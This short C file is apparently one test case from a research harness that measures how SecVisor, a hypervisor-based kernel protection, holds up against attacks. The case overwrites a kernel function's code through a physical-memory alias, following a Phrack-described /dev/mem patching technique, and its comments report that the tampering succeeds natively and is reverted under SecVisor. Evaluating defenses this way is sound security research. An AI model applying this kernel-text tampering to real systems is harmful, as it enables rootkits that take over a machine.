// Row 3. Kernel text written through a mapping of its physical address, as /dev/mem gave it before STRICT_DEVMEM.
// Source: Phrack 58-7 (sd, devik: Linux on-the-fly kernel patching without LKM).
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"

ATTACK("text-physical")
{
	u64 at = symbol(VICTIM);
	u8 approved[CODE_LENGTH];
	long before = victim();

	kread(at, approved, sizeof(approved));
	keep_bytes(at, sizeof(approved));
	u64 alias = map_physical(physical(at), KERNEL_DATA);

	operate(VULNERABLE_STORE, alias, *(const u64 *)CODE, 8);
	operate(VULNERABLE_STORE, alias + 8, *(const u16 *)(CODE + 8), 2);
	judge_victim(before, approved, "through its physical address");
}
